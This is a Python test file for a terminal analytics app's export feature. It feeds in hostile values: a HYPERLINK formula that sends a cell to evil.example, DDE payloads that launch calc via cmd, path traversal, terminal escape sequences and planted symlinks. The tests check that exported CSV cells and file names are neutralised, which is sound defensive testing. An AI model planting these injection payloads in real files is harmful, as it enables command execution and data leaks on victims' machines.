"""Ctrl+S when things are not friendly: a hostile site name and hostile values, a folder that
cannot be written, a file that is already there, kiosk mode, and Esc."""

from __future__ import annotations

import csv
import io
import json
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
from textual.pilot import Pilot

from krafter_tui.app import KrafterApp
from krafter_tui.demo import DemoApp
from krafter_tui.ui.screens.export_dialog import ExportDialog

from .conftest import settle
from .helpers import wait_until
from .test_export_keys import WAIT, export, toast_text

MakeApp = Callable[..., KrafterApp]
HOSTILE_SITE = '=HYPERLINK("http://evil.example/?x="&A1)/../../etc/\x1b]0;PWNED\x07passwd'
HOSTILE_PAGE = '=HYPERLINK("http://evil.example","click")'
HOSTILE_EVENT = "+cmd|' /C calc'!A0"
# Harmless in a comma spreadsheet; where ';' separates cells the middle is a formula.
SEMICOLON_PAGE = "x;=2+5+cmd|' /C calc'!A0;"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class HostileNames(httpx.AsyncBaseTransport):
    """The demo, with its first site renamed and a hostile page and event in its answers."""

    def __init__(self, demo: DemoApp) -> None:
        self.inner = httpx.ASGITransport(app=demo)

    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
        response = await self.inner.handle_async_request(request)
        await response.aread()
        if response.status_code != 200:
            return response
        body = json.loads(response.content)
        last = request.url.path.rsplit("/", 1)[-1]
        if last == "sites":
            body["data"][0]["name"] = HOSTILE_SITE
        elif last == "stats" and body["data"].get("breakdown"):
            row = {"value": HOSTILE_PAGE, "count": 10**9, "percent": 99.0}
            body["data"]["breakdown"]["path"].insert(0, row)
            row = {"value": SEMICOLON_PAGE, "count": 10**9 - 1, "percent": 98.0}
            body["data"]["breakdown"]["path"].insert(1, row)
        elif last == "events":
            body["data"].insert(
                0, {"event_name": HOSTILE_EVENT, "total": 10**9, "unique_count": 1, "revenue": None}
            )
        headers = {k: v for k, v in response.headers.items() if k.lower() != "content-length"}
        return httpx.Response(200, headers=headers, content=json.dumps(body).encode())


async def run_export(app: KrafterApp, letters: str, folder: Path) -> list[Path]:
    """Run ``app``, export each of ``letters`` into ``folder``; the files written."""
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await settle(pilot)
        return [await export(pilot, letter, folder, set(folder.glob("*"))) for letter in letters]


async def test_a_hostile_site_name_gives_a_safe_file_name_and_guarded_cells(
    make_app: MakeApp, demo: DemoApp, tmp_path: Path
) -> None:
    folder = tmp_path / "downloads"
    app = make_app(transport=HostileNames(demo))
    breakdown, events, shot = await run_export(app, "bes", folder)
    for path in (breakdown, events, shot):
        assert path.parent == folder  # nothing escaped the folder
        name = path.name
        assert name.isascii() and name.isprintable(), name
        assert "/" not in name and ".." not in name and len(name) < 120, name
        assert name.startswith("krafter-hyperlink-http-evil-example-x-a1-etc"), name
    assert sorted(folder.iterdir()) == sorted((breakdown, events, shot))
    rows = list(csv.reader(io.StringIO(breakdown.read_text())))
    assert rows[1] == ["'" + HOSTILE_PAGE, str(10**9), "99.0"]
    names = [row[0] for row in csv.reader(io.StringIO(events.read_text()))]
    assert names[1] == "'" + HOSTILE_EVENT
    # The escape sequence of the name reached neither the files nor the screenshot.
    for path in (breakdown, events, shot):
        assert "\x1b" not in path.read_text() and "\x07" not in path.read_text()


async def test_no_cell_starts_a_formula_with_either_list_separator(
    make_app: MakeApp, demo: DemoApp, tmp_path: Path
) -> None:
    folder = tmp_path / "downloads"
    breakdown, events, timeseries = await run_export(
        make_app(transport=HostileNames(demo)), "bet", folder
    )
    assert SEMICOLON_PAGE in breakdown.read_text()  # the attack is in the file
    for path in (breakdown, events, timeseries):
        for separator in (",", ";"):  # as Excel reads it in English and in French or German
            for row in csv.reader(io.StringIO(path.read_text()), delimiter=separator):
                for cell in row:
                    assert is_number(cell) or not cell.startswith(FORMULA_START), (
                        f"{path.name} split by {separator!r} has the cell {cell!r}"
                    )


def is_number(cell: str) -> bool:
    """Whether a spreadsheet reads ``cell`` as a plain number."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


async def test_a_folder_that_cannot_be_made_says_so(make_app: MakeApp, tmp_path: Path) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    app = make_app(download_dir=str(blocker / "downloads"))
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await settle(pilot)
        await press_export(pilot, "t")
        await wait_until(pilot, lambda: "Couldnotsave" in toast_text(app), WAIT, "a toast")
        text = toast_text(app)
    assert "Exportfailed" in text and str(blocker / "downloads").replace(" ", "") in text
    assert blocker.read_text() == "not a folder"


@pytest.mark.skipif(sys.platform != "linux", reason="/proc takes no new files on Linux only")
async def test_a_file_that_cannot_be_written_says_so(make_app: MakeApp) -> None:
    # The folder exists, but no file can be made in it (not even by root): Textual's
    # delivery fails on its thread and says so with DeliveryFailed.
    app = make_app(download_dir="/proc")
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await settle(pilot)
        await press_export(pilot, "e")
        await wait_until(pilot, lambda: "Couldnotsave" in toast_text(app), WAIT, "a toast")
        text = toast_text(app)
    assert "Exportfailed" in text and "-events.csvin/proc" in text
    assert "Saved" not in text


async def test_a_second_export_does_not_overwrite_the_first(
    make_app: MakeApp, tmp_path: Path
) -> None:
    folder = tmp_path / "downloads"
    first, second = await run_export(make_app(), "TT", folder)
    assert second.name == first.name.removesuffix(".json") + "-2.json"
    assert first.read_text() == second.read_text()


async def test_the_third_and_the_1001st_export_overwrite_nothing(
    make_app: MakeApp, tmp_path: Path
) -> None:
    folder = tmp_path / "downloads"
    app = make_app()
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await settle(pilot)
        first = await export(pilot, "T", folder, set())
        stem = first.name.removesuffix(".json")
        second = await export(pilot, "T", folder, {first})
        assert second.name == f"{stem}-2.json"
        second.write_text("mine")
        third = await export(pilot, "T", folder, {first, second})
        assert third.name == f"{stem}-3.json"
        assert second.read_text() == "mine"
        for number in range(4, 1001):
            (folder / f"{stem}-{number}.json").write_text(f"mine {number}")
        before = set(folder.iterdir())
        last = await export(pilot, "T", folder, before)
    assert last.name == f"{stem}-1001.json"
    assert json.loads(last.read_text()) == json.loads(first.read_text())
    assert second.read_text() == "mine"
    for number in range(4, 1001):
        assert (folder / f"{stem}-{number}.json").read_text() == f"mine {number}"


async def test_a_link_planted_under_the_next_name_is_not_written_through(
    make_app: MakeApp, tmp_path: Path
) -> None:
    folder = tmp_path / "downloads"
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    kept = elsewhere / "kept.txt"
    kept.write_text("not yours")
    app = make_app()
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await settle(pilot)
        first = await export(pilot, "t", folder, set())
        stem = first.name.removesuffix(".csv")
        # The next names: a dangling link (Path.exists() is False for it) and a link to a
        # file of someone else's.
        dangling, linked = folder / f"{stem}-2.csv", folder / f"{stem}-3.csv"
        dangling.symlink_to(elsewhere / "made-through-the-link.csv")
        linked.symlink_to(kept)
        second = await export(pilot, "t", folder, {first, dangling, linked})
    assert second.name == f"{stem}-4.csv"
    assert second.read_text() == first.read_text()
    assert sorted(p.name for p in elsewhere.iterdir()) == ["kept.txt"]
    assert kept.read_text() == "not yours"
    assert dangling.is_symlink() and linked.is_symlink()


async def test_esc_closes_the_dialog_without_saving(make_app: MakeApp, tmp_path: Path) -> None:
    app = make_app()
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await settle(pilot)
        await pilot.press("ctrl+s")
        await wait_until(pilot, lambda: isinstance(app.screen, ExportDialog), WAIT, "dialog")
        await pilot.press("escape")
        await wait_until(pilot, lambda: not isinstance(app.screen, ExportDialog), WAIT, "gone")
        await pilot.pause(0.2)
    assert not (tmp_path / "downloads").exists()


async def test_kiosk_mode_saves_nothing(make_app: MakeApp, tmp_path: Path) -> None:
    app = make_app(kiosk=True, rotate_sites=3600.0)
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await settle(pilot)
        for key in ("ctrl+s", "b", "s", "enter"):
            await pilot.press(key)
            await pilot.pause(0.1)
        assert not isinstance(app.screen, ExportDialog)
    assert not (tmp_path / "downloads").exists()


async def press_export(pilot: Pilot[Any], letter: str) -> None:
    """Ctrl+S, then ``letter`` in the dialog."""
    await pilot.press("ctrl+s")
    await wait_until(pilot, lambda: isinstance(pilot.app.screen, ExportDialog), WAIT, "dialog")
    await pilot.press(letter)
